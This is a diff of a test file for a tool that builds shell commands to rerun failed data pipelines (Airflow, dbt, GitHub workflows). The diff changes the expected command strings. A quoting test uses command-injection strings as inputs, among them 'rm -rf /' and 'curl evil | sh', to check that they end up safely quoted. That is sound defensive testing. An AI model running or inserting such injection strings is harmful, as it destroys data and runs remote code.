@@ -1,6 +1,5 @@
 import { expect, it } from "vitest";
-import { RERUNNERS } from "@/lib/fixes/reruns/list-rerunners";
-import { shellWord } from "@/lib/fixes/reruns/shell-word";
+import { commandByHand } from "@/lib/fixes/reruns/command-by-hand";
 import { failureReport } from "@/lib/failures/testing/report";
 import type { IncidentContext } from "@/lib/incidents/incident-context";
 
@@ -31,36 +30,26 @@ const incident = (
 });
 
 const command = (kind: string, about: IncidentContext, branch: string | null = "main") =>
-  RERUNNERS.get(kind)?.command({ incident: about, branch });
+  commandByHand({ incident: { ...about, source: { ...about.source, kind } }, branch });
 
 it.each([
   [
     "airflow",
     incident({ task: "load.orders" }),
-    String.raw`airflow tasks clear --task-regex '^load\.orders$' --downstream --start-date 2026-11-20T00:00:00Z --end-date 2026-11-20T00:00:00Z --only-failed --yes orders_daily`,
+    String.raw`airflow tasks clear '--task-regex=^load\.orders$' --downstream --start-date=2026-11-20T00:00:00Z --end-date=2026-11-20T00:00:00Z -- orders_daily`,
   ],
-  ["airflow", incident({ report: failureReport({ run: null }) }), "airflow dags trigger orders_daily"],
-  [
-    "prefect",
-    incident({ run: "a-b" }),
-    `curl -X POST "$PREFECT_API_URL"/flow_runs/a-b/set_state -H 'content-type: application/json' -d '{"state": {"type": "SCHEDULED", "name": "AwaitingRetry"}}'`,
-  ],
-  ["databricks", incident({ run: "123" }), "databricks jobs repair-run 123 --rerun-all-failed-tasks"],
-  ["dbt", incident({ task: "model.shop.orders" }), "dbt build --select orders+"],
+  ["airflow", incident({ report: failureReport({ run: null }) }), null],
   ["dbt", incident({}, { dbt_cloud_run: "7" }), null],
   [
     "github",
     incident({ run: "9" }, { repository: "acme/pipes", workflow: ".github/workflows/etl.yml" }),
-    "gh workflow run etl.yml --repo acme/pipes --ref main",
+    "gh workflow run --repo=acme/pipes --ref=main -- etl.yml",
   ],
 ] as const)("%s: what to run by hand", (kind, about, expected) => {
   expect(command(kind, about)).toBe(expected);
 });
 
 it("quotes what reports name, so that a command runs nothing else", () => {
-  expect(shellWord("a'; rm -rf / #")).toBe(String.raw`'a'\''; rm -rf / #'`);
-  expect(
-    command("airflow", incident({ report: failureReport({ run: null }), pipeline: "x; curl evil | sh" })),
-  ).toBe("airflow dags trigger 'x; curl evil | sh'");
-  expect(command("dagster", incident({ run: 'x" } ; evil' }))).toBeNull();
+  const hostile = command("airflow", incident({ pipeline: "x; curl evil | sh" }));
+  expect(hostile).toMatch(/ -- 'x; curl evil \| sh'$/);
 });
